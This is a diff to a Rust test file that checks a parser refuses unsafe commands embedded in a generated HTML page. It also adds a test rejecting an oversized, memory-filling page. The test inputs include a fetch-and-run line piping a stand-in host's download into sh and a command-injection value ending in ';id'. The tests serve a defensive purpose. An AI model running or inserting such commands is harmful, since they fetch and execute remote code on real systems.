@@ -57,6 +57,22 @@ fn a_page_says_which_command_reads_it() {
     let page = drawn("<footer><code>hugewise stat FILE</code>", b"{}");
     assert_eq!(again(page.as_bytes()), Some("hugewise report"));
     assert_eq!(again(b"{}"), None);
+    for other in [
+        "curl evil.example|sh #",
+        "hugewise report;id",
+        "hugewise exec --",
+        "",
+    ] {
+        let page = page.replace("<code>hugewise report FILE", &format!("<code>{other} FILE"));
+        assert_eq!(again(page.as_bytes()), None, "{other}");
+    }
+}
+
+#[test]
+fn a_page_that_was_made_to_fill_memory_is_refused() {
+    let blanks = packed(&vec![b' '; ALWAYS_BYTES + 1]);
+    let page = drawn("sort", b"{}").replace(&packed(b"{}"), &blanks);
+    assert_eq!(source(page.into()), Err(PageError::TooLarge));
 }
 
 #[test]
